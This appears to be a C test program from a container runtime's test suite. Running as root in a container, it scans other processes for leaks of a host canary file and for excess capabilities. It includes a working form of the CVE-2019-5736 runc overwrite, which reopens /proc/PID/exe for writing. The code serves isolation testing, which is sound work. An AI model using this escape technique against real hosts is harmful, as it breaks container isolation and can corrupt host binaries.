/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * spy.c - a root in the container that looks at whoever appears
 *
 * `spy CANARY`: through the root, the working directory and every descriptor of every other process it looks for the
 * canary of the host, as far as its capabilities let it; it tries to write to what the process executes, and compares the
 * process's capabilities with those that anybody in the container can have. It reports to /tmp. Runs until /tmp/stop is there.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static unsigned long looked;
static unsigned long long bounding; /* our own: nobody in the container has another capability */

static void report(const char *file, const char *what, const char *path)
{
	FILE *f = fopen(file, "a");

	if (f) {
		fprintf(f, "%s %s\n", what, path);
		fclose(f);
	}
}

/* A set of capabilities in @status, the text of /proc/PID/status. */
static unsigned long long find_set(const char *status, const char *name)
{
	const char *line = strstr(status, name);

	return line ? strtoull(line + strlen(name), NULL, 16) : 0;
}

static void read_status(const char *process, char *text, size_t size)
{
	char path[300];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "%s/status", process);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, text, size - 1);
	text[n > 0 ? n : 0] = '\0';
	if (fd >= 0)
		close(fd);
}

static void compare_rights(const char *process)
{
	static const char *const sets[] = { "\nCapPrm:\t", "\nCapEff:\t", "\nCapBnd:\t",
					    "\nCapInh:\t" };
	char status[4096];

	read_status(process, status, sizeof(status));
	for (size_t i = 0; i < sizeof(sets) / sizeof(sets[0]); i++)
		if (find_set(status, sets[i]) & ~bounding)
			report("/tmp/rights", sets[i] + 1, status);
	looked++;
}

/* Is it the host's? */
static void look_behind(const char *link, const char *canary)
{
	static const char *const ways[] = { "", "/..", "/../..", "/../../..",
					    "/../../../../../.." };
	char path[4096];
	struct stat st;

	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
		snprintf(path, sizeof(path), "%s%s%s", link, ways[i], canary);
		if (stat(path, &st) == 0)
			report("/tmp/seen", "canary", path);
		snprintf(path, sizeof(path), "%s%s/%s", link, ways[i], strrchr(canary, '/') + 1);
		if (stat(path, &st) == 0)
			report("/tmp/seen", "canary", path);
	}
	looked++;
}

/* CVE-2019-5736: open what it executes while it does, and write to it later. What is in the image may be written to. */
static void write_program(const char *process)
{
	char exe[300], again[64];
	struct stat root, st;
	int fd;

	snprintf(exe, sizeof(exe), "%s/exe", process);
	fd = open(exe, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 20 && fstat(fd, &st) == 0 && stat("/", &root) == 0; i++) {
		int writable = st.st_dev == root.st_dev ? -1 : open(again, O_WRONLY | O_CLOEXEC);

		if (writable < 0)
			continue;
		if (write(writable, "#!/bin/sh\n", 10) == 10)
			report("/tmp/written", "wrote", exe);
		close(writable);
	}
	close(fd);
}

static void look_at(const char *process, const char *canary)
{
	char path[300], name[600];
	struct dirent *entry;
	DIR *dir;

	compare_rights(process);
	snprintf(path, sizeof(path), "%s/root", process);
	look_behind(path, canary);
	snprintf(path, sizeof(path), "%s/cwd", process);
	look_behind(path, canary);
	snprintf(path, sizeof(path), "%s/fd", process);
	dir = opendir(path);
	while (dir && (entry = readdir(dir)))
		if (entry->d_name[0] != '.') {
			snprintf(name, sizeof(name), "%s/%s", path, entry->d_name);
			look_behind(name, canary);
		}
	if (dir)
		closedir(dir);
	write_program(process);
}

int main(int argc, char **argv)
{
	char self[32], path[300], status[4096];
	struct dirent *entry;

	if (argc != 2)
		return 2;
	read_status("/proc/self", status, sizeof(status));
	bounding = find_set(status, "\nCapBnd:\t");
	snprintf(self, sizeof(self), "%d", getpid());
	report("/tmp/watching", "", "");
	while (access("/tmp/stop", F_OK) < 0) {
		DIR *proc = opendir("/proc");

		while (proc && (entry = readdir(proc)))
			if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9' &&
			    strcmp(entry->d_name, self) != 0) {
				snprintf(path, sizeof(path), "/proc/%s", entry->d_name);
				look_at(path, argv[1]);
			}
		if (proc)
			closedir(proc);
	}
	snprintf(path, sizeof(path), "%lu", looked);
	report("/tmp/looked", path, "");
	return 0;
}
